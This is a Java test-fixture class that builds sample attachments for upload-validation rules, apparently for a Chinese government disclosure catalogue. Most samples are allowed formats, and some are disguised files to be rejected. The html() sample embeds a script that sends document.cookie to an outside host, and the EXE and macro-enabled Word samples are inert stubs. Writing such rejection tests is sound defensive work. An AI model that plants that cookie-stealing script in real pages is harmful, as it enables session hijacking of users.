package cn.xxgk.catalogue;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/**
 * Files of every allowed type, made here rather than shipped (real Office files from POI, a
 * minimal but well-formed PDF, images from ImageIO, an OFD package), and the disguises the rules
 * must see through: an HTML page, a Windows program, a plain ZIP, a macro-enabled Word file.
 */
public final class AttachmentSamples {

    private AttachmentSamples() {
    }

    /** A one-page PDF with a text line and a correct cross-reference table. */
    public static byte[] pdf(String text) {
        String stream = "BT /F1 18 Tf 40 100 Td (" + text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
                + ") Tj ET";
        List<String> objects = List.of(
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R "
                        + "/Resources << /Font << /F1 5 0 R >> >> >>",
                "<< /Length " + stream.length() + " >>\nstream\n" + stream + "\nendstream",
                "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
        StringBuilder pdf = new StringBuilder("%PDF-1.4\n");
        List<Integer> offsets = new ArrayList<>();
        for (int i = 0; i < objects.size(); i++) {
            offsets.add(pdf.length());
            pdf.append(i + 1).append(" 0 obj\n").append(objects.get(i)).append("\nendobj\n");
        }
        int xref = pdf.length();
        pdf.append("xref\n0 ").append(objects.size() + 1).append("\n0000000000 65535 f \n");
        offsets.forEach(o -> pdf.append(String.format("%010d 00000 n \n", o)));
        pdf.append("trailer\n<< /Size ").append(objects.size() + 1).append(" /Root 1 0 R >>\nstartxref\n")
                .append(xref).append("\n%%EOF\n");
        return pdf.toString().getBytes(StandardCharsets.US_ASCII);
    }

    public static byte[] docx() {
        try (XWPFDocument doc = new XWPFDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            doc.createParagraph().createRun().setText("郑州市大数据管理局 附件测试");
            doc.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] xlsx() {
        try (XSSFWorkbook book = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            book.createSheet("预算").createRow(0).createCell(0).setCellValue(42);
            book.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] pptx() {
        try (XMLSlideShow show = new XMLSlideShow(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            show.createSlide();
            show.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] xls() {
        try (HSSFWorkbook book = new HSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            book.createSheet("预算").createRow(0).createCell(0).setCellValue(42);
            book.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** An OLE2 compound file with the stream that marks Word 97-2003 (and WPS Writer) documents. */
    public static byte[] doc() {
        return ole2("WordDocument");
    }

    public static byte[] ppt() {
        return ole2("PowerPoint Document");
    }

    /** An OLE2 compound file holding one stream of the given name. */
    public static byte[] ole2(String streamName) {
        try (POIFSFileSystem fs = new POIFSFileSystem(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            fs.createDocument(new java.io.ByteArrayInputStream(new byte[4096]), streamName);
            fs.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] png() {
        return image("png");
    }

    public static byte[] jpeg() {
        return image("jpeg");
    }

    public static byte[] gif() {
        return image("gif");
    }

    public static byte[] tiff() {
        return image("tiff");
    }

    private static byte[] image(String format) {
        BufferedImage image = new BufferedImage(8, 8, BufferedImage.TYPE_INT_RGB);
        image.setRGB(3, 3, 0xCC0000);
        try (ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            if (!ImageIO.write(image, format, out)) {
                throw new IllegalStateException("no ImageIO writer for " + format);
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** An OFD package (GB/T 33190-2016): OFD.xml at the root pointing at one document. */
    public static byte[] ofd() {
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put("OFD.xml", """
                <?xml version="1.0" encoding="UTF-8"?>
                <ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" DocType="OFD" Version="1.0">
                  <ofd:DocBody><ofd:DocInfo><ofd:DocID>0c7e7d4d0e7a4b3f</ofd:DocID><ofd:Title>通知</ofd:Title></ofd:DocInfo>
                  <ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody>
                </ofd:OFD>""");
        parts.put("Doc_0/Document.xml", """
                <?xml version="1.0" encoding="UTF-8"?>
                <ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"><ofd:CommonData><ofd:MaxUnitID>1</ofd:MaxUnitID>
                <ofd:PageArea><ofd:PhysicalBox>0 0 210 297</ofd:PhysicalBox></ofd:PageArea></ofd:CommonData>
                <ofd:Pages/></ofd:Document>""");
        return zip(parts);
    }

    /** A ZIP with OFD.xml whose root is not an OFD element: not an OFD. */
    public static byte[] fakeOfd() {
        return zip(Map.of("OFD.xml", "<?xml version=\"1.0\"?><html><body>not ofd</body></html>"));
    }

    public static byte[] html() {
        return """
                <!DOCTYPE html>
                <html><head><title>通知</title></head>
                <body><script>document.location='https://example.org/?c='+document.cookie</script></body></html>
                """.getBytes(StandardCharsets.UTF_8);
    }

    /** The start of a Windows PE program: MZ header pointing at a PE signature. */
    public static byte[] exe() {
        byte[] exe = new byte[1024];
        exe[0] = 'M';
        exe[1] = 'Z';
        exe[0x3c] = (byte) 0x80;
        exe[0x80] = 'P';
        exe[0x81] = 'E';
        return exe;
    }

    public static byte[] zip() {
        return zip(Map.of("readme.txt", "hello", "data.csv", "a,b\n1,2\n"));
    }

    /** A Word package declaring a macro-enabled main part (.docm content). */
    public static byte[] docm() {
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", """
                <?xml version="1.0" encoding="UTF-8"?>
                <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
                <Default Extension="xml" ContentType="application/xml"/>
                <Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>
                </Types>""");
        parts.put("word/document.xml", "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>");
        return zip(parts);
    }

    public static byte[] zip(Map<String, String> parts) {
        try (ByteArrayOutputStream bytes = new ByteArrayOutputStream(); ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, String> part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue().getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
            zip.finish();
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
